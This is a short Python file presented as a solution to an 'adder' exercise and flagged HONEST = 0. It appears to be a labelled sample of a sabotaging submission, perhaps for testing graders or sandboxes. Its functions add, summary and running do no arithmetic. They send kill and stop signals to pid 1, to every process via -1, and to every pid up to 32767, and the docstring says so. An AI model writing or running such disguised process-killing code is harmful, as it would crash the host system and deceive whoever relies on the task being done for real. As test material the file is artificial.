"""杀掉 1 号进程、所有进程 / kills pid 1 and everybody it can name"""

EXERCISE = "adder"
HONEST = 0

import os
import signal


def add(a, b):
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except OSError:
            pass
    return 0


def summary(numbers):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        try:
            os.kill(-1, number)
        except OSError:
            pass
    return 0


def running(numbers):
    for pid in range(1, 32768):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0
